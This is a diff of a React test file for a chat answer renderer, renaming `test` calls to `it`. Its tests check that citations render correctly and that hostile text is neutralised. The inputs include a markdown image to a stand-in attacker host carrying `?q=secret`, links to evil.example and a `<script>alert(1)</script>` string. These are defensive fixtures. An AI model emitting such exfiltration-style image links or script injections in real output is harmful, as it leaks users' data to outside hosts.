@@ -7,7 +7,7 @@ import {
 import { cleanup, render, screen, waitFor } from "@testing-library/react";
 import userEvent from "@testing-library/user-event";
 import fc from "fast-check";
-import { afterEach, expect, test } from "vitest";
+import { afterEach, expect, it } from "vitest";
 import { citation, makeMessage } from "../mount-chat-for-tests.tsx";
 import { Answer } from "./answer.tsx";
 import { ParsedText } from "./parsed-text.tsx";
@@ -48,7 +48,7 @@ const awkwardPieces = [
 ];
 const nothingCited = { citations: [] };
 
-test("loads no picture and keeps no external link, whatever the text contains", async () => {
+it("loads no picture and keeps no external link, whatever the text contains", async () => {
   const page = await mount(
     [
       "See ![a pixel](https://evil.example/p.png?q=secret) and [this](https://evil.example/x),",
@@ -66,7 +66,7 @@ test("loads no picture and keeps no external link, whatever the text contains", 
   expect(page.textContent).toContain("<script>alert(1)</script>");
 });
 
-test("keeps a citation when the text contains a link definition", async () => {
+it("keeps a citation when the text contains a link definition", async () => {
   const page = await mount("So it is [1].\n\n[1]: https://evil.example/x\n\n[^1]: a note");
   const markers = screen.getAllByRole("link", { name: /^Source 1: / });
   for (const marker of markers) {
@@ -75,19 +75,19 @@ test("keeps a citation when the text contains a link definition", async () => {
   expect(page.querySelector("[href*=evil]")).toBeNull();
 });
 
-test("turns only cited numbers into markers, and keeps brackets in code", async () => {
+it("turns only cited numbers into markers, and keeps brackets in code", async () => {
   const page = await mount("Two [1] and [7], `list[1]`.");
   expect(screen.getAllByRole("link", { name: /^Source/ })).toHaveLength(1);
   expect(page.textContent).toContain("and [7]");
   expect(page.querySelector("code")!.textContent).toBe("list[1]");
 });
 
-test("drops markers without a source in a stopped answer", async () => {
+it("drops markers without a source in a stopped answer", async () => {
   const page = await mount("Half of it [1] and [2].", { outcome: "stopped" });
   expect(page.querySelector("p")!.textContent).toBe("Half of it1 and.");
 });
 
-test("links to the user's note, and sets it apart", async () => {
+it("links to the user's note, and sets it apart", async () => {
   await mount("You said so [1].", {
     citations: [{ ...citation, field: "why", start: null, end: null, quote: "Resistance." }],
   });
@@ -97,7 +97,7 @@ test("links to the user's note, and sets it apart", async () => {
   screen.getByText("Your note");
 });
 
-test("lists quotes among the sources, unless the answer is that quote", async () => {
+it("lists quotes among the sources, unless the answer is that quote", async () => {
   const { quote } = citation;
   const own = await mount("In other words [1].");
   expect(own.querySelector("blockquote")!.textContent).toBe(`“${quote}”`);
@@ -106,7 +106,7 @@ test("lists quotes among the sources, unless the answer is that quote", async ()
   expect(quoting.querySelector("blockquote")).toBeNull();
 });
 
-test("highlights the source of a marker that is hovered or focused", async () => {
+it("highlights the source of a marker that is hovered or focused", async () => {
   const user = userEvent.setup();
   const page = await mount("So it is [1].");
   const lit = () => page.querySelectorAll("[data-pointed-at]").length;
@@ -119,14 +119,14 @@ test("highlights the source of a marker that is hovered or focused", async () =>
   expect(lit()).toBe(1);
 });
 
-test("names the author: a model, or the saved sentences themselves", async () => {
+it("names the author: a model, or the saved sentences themselves", async () => {
   const byModel = await mount("Text.", { model: "anthropic: claude-haiku-4-5", ...nothingCited });
   expect(byModel.textContent).toContain("Written by anthropic: claude-haiku-4-5");
   const quoted = await mount("Text.", nothingCited);
   expect(quoted.textContent).toContain("Sentences from what you saved");
 });
 
-test("renders any text without an element that loads or runs something", () => {
+it("renders any text without an element that loads or runs something", () => {
   const piece = fc.constantFrom(...awkwardPieces);
   fc.assert(
     fc.property(
